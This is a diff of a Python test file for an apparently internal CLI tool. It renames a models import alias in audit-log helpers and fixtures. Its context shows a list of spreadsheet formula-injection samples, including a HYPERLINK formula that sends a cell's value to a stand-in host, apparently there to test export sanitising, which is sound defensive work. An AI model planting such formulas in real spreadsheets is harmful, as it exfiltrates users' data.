@@ -23,7 +23,7 @@ from openpyxl import load_workbook
 from sqlalchemy import func, insert, select
 
 from tests import factories
-from vipcli.db import models as m
+from vipcli.db import models
 
 FORMULAS = [
     '=HYPERLINK("http://x/?a="&A1,"c")',
@@ -83,8 +83,8 @@ def _refused(result, *words: str) -> None:
 
 def _exports(engine) -> int:
     with engine.connect() as conn:
-        return conn.execute(select(func.count()).select_from(m.AuditLog)
-                            .where(m.AuditLog.action.in_(("export", "backup")))).scalar_one()
+        return conn.execute(select(func.count()).select_from(models.AuditLog)
+                            .where(models.AuditLog.action.in_(("export", "backup")))).scalar_one()
 
 
 def _actor(command: list[str]) -> str:
@@ -332,7 +332,7 @@ def two_outlets(outlet):
                ("M1", "export", None), ("H2", "backup", None), ("OP1", "sign", "C1"),
                ("L1", "lobby_lookup", "C9")]
     with outlet.begin() as conn:
-        conn.execute(insert(m.AuditLog), [dict(at=at, actor_id=a, action=x, customer_id=c)
+        conn.execute(insert(models.AuditLog), [dict(at=at, actor_id=a, action=x, customer_id=c)
                                           for a, x, c in entries])
     return outlet
 
